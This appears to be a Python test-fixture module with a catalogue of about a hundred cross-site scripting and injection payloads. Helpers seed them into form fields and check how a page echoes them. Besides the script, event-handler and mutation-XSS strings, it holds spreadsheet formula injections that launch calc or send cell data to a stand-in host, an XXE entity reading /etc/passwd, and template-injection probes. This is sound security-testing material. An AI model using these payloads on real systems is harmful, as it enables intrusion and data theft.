"""A hundred texts that try to run script, wherever a page may put them."""

import re

# The first of each ROWS is alone at the start of what it fills: an address or a formula needs that.
FIRST = [
    "javascript:top.hacked=1//",
    "JaVaScRiPt:alert(1)//",
    " \x01javascript:top.hacked=1//",
    "java\tscript:top.hacked=1//",
    "javascript://example.org/%0atop.hacked=1//",
    "data:text/html,<script>top.hacked=1</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'/>",
    "vbscript:msgbox(1)",
    "&#106;avascript:top.hacked=1//",
    "//hacked.example/x.js",
    '=HYPERLINK("http://hacked.example/?"&A1,"hacked")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<!doctype html><script>top.hacked=1</script>",
    "<?xml version='1.0'?><hacked xmlns='http://www.w3.org/1999/xhtml'/>",
    "＝1+1",  # noqa: RUF001 (what Excel takes for = where it is set to Japanese)
    "\ufeff<script>top.hacked=1</script>",
    "[];top.hacked=1//",
]
REST = [
    # --- elements
    "<script>top.hacked=1</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//hacked.example/x.js></script>",
    "<script/x>top.hacked=1</script>",
    "<scr<script>ipt>top.hacked=1</scr</script>ipt>",
    "<<script>top.hacked=1//<</script>",
    "<script>top.hacked=1//",
    "<script type=module>top.hacked=1</script>",
    "<img src=x onerror=top.hacked=1>",
    "<img src=x onerror=alert`1`>",
    "<IMG SRC=x ONERROR=alert(1)//",
    "<img/src='x'/onerror=top.hacked=1>",
    "<img src=/static/icon.svg onload=top.hacked=1>",
    "<body onload=top.hacked=1>",
    "<b class=hacked onmouseover=top.hacked=1>over</b>",
    "<input class=hacked autofocus onfocus=top.hacked=1>",
    "<details open ontoggle=top.hacked=1><summary>x</summary></details>",
    "<marquee onstart=top.hacked=1>x</marquee>",
    "<video><source onerror=top.hacked=1></video>",
    "<audio src=x onerror=top.hacked=1>",
    "<iframe src=javascript:top.hacked=1></iframe>",
    "<iframe srcdoc='<script>top.hacked=1</script>'></iframe>",
    "<object data=javascript:top.hacked=1></object>",
    "<embed src=//hacked.example/x.svg>",
    "<base href=//hacked.example/>",
    "<meta http-equiv=refresh content='0;url=//hacked.example'>",
    "<link rel=stylesheet href=//hacked.example/x.css>",
    "<form class=hacked action=//hacked.example><button>x</button></form>",
    "<a class=hacked href=javascript:top.hacked=1>x</a>",
    "<button form=x formaction=javascript:top.hacked=1>x</button>",
    "<x class=hacked style=animation-name:x onanimationstart=top.hacked=1>",
    "<template class=hacked><script>top.hacked=1</script></template>",
    # --- SVG and MathML
    "<svg onload=top.hacked=1>",
    "<svg><script>top.hacked=1</script></svg>",
    "<svg><animate onbegin=top.hacked=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:top.hacked=1><text>x</text></a></svg>",
    "<svg><set attributeName=onload to=top.hacked=1 />",
    "<svg><foreignObject><img src=x onerror=top.hacked=1></foreignObject></svg>",
    "<math><mtext><img src=x onerror=top.hacked=1></mtext></math>",
    "<math href=javascript:top.hacked=1>x</math>",
    # --- out of attributes
    '"><script>top.hacked=1</script>',
    "'><script>top.hacked=1</script>",
    '" onmouseover="top.hacked=1" hacked="',
    "' onfocus='top.hacked=1' autofocus hacked='",
    "x onpointerover=top.hacked=1 hacked",
    "` onerror=top.hacked=1 hacked `",
    '\\"><img src=x onerror=top.hacked=1>',
    "&quot;><img src=x onerror=top.hacked=1>",
    '" style="width:expression(top.hacked=1)" hacked="',
    "/><svg/onload=top.hacked=1>",
    # --- out of elements whose content is text
    "</title><script>top.hacked=1</script>",
    "</textarea><script>top.hacked=1</script>",
    "</style><script>top.hacked=1</script>",
    "</script><script>top.hacked=1</script>",
    "</option></select><img src=x onerror=top.hacked=1>",
    "</noscript><img src=x onerror=top.hacked=1>",
    "--><script>top.hacked=1</script><!--",
    "<!--><img src=x onerror=top.hacked=1>-->",
    "<![CDATA[<script>top.hacked=1</script>]]>",
    "]]><script>top.hacked=1</script>",
    '<!ENTITY hacked SYSTEM "file:///etc/passwd">&hacked;',
    # --- what parsers mend, or read another time
    '<noscript><p title="</noscript><img src=x onerror=top.hacked=1>">',
    '<svg></p><style><a id="</style><img src=x onerror=top.hacked=1>">',
    '<math><mglyph><style><!--</style><img title="--><img src=x onerror=top.hacked=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hacked=1>",
    "<table><a class=hacked><td><img src=x onerror=top.hacked=1>",
    # --- entities and encodings
    "&lt;script&gt;top.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=top.hacked=1&#62;",
    "&amp;lt;img src=x onerror=top.hacked=1&amp;gt;",
    "%3Cscript%3Etop.hacked=1%3C/script%3E",
    "\\u003cscript\\u003etop.hacked=1\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=top.hacked=1\\x3e",
    "+ADw-script+AD4-top.hacked=1+ADw-/script+AD4-",
    "<scr\x00ipt>top.hacked=1</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=top.hacked=1>",
    "＜script＞top.hacked=1＜/script＞",  # noqa: RUF001 (NFKC makes them < and >)
    "\u202e<script>top.hacked=1</script>\u2066",
    # --- templates, formats and scripts
    "{{7*7}}{% print(7*7) %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{bug}{column}",
    "%(x)s %(name)s %s %d %n {0} {0.__class__} %",
]
PAYLOADS = FIRST + REST
ROWS = len(FIRST)
MARK = re.compile(r"~([a-z_]+\.[a-z_]+)\.(\d+)~")
# What no text of a page or of XML holds, or what stands for it there; and white space.
UNSPEAKABLE = re.compile(r"[\s\x00-\x1f\ufffd]")


def write_texts(field: str, row: int, gap: str = " ") -> str:
    """Return the payloads of a row from 1, each with a mark of where it was filled in."""
    chosen = range(row - 1, len(PAYLOADS), ROWS)
    return gap.join(f"{PAYLOADS[number]}~{field}.{number}~" for number in chosen)


def read_marks(text: str) -> tuple[set[tuple[str, int]], list[str]]:
    """Return the fields and payloads that *text* has, and those that are not told word by word."""
    said = simplify(text)
    found = {(field, int(number)) for field, number in MARK.findall(text)}
    wrong = [
        f"{field}: {PAYLOADS[number]!r}"
        for field, number in sorted(found)
        if simplify(f"{PAYLOADS[number]}~{field}.{number}~") not in said
    ]
    return found, wrong


def simplify(text: str) -> str:
    return UNSPEAKABLE.sub("", text)
